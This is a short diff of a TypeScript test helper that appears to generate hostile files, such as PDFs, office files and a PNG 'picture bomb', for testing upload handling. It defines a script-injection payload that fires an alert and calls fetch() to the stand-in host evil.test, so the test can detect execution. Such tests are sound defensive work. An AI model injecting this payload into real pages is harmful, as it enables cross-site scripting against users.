@@ -4,7 +4,7 @@ import { makeCompoundFile, makeZip } from "./make-office-file.ts";
 import { makePdf } from "./make-pdf.ts";
 import { makePictureBomb, makePng } from "./make-png.ts";
 
-export type HostileFile = { fileName: string; content: Buffer; what: string; isTaken: boolean };
+type HostileFile = { fileName: string; content: Buffer; what: string; isTaken: boolean };
 
 /** Whatever runs one of these says so: by a dialog, by a request to another host. */
 const SCRIPT = "<script>alert('ran');fetch('https://evil.test/ran')</script>";
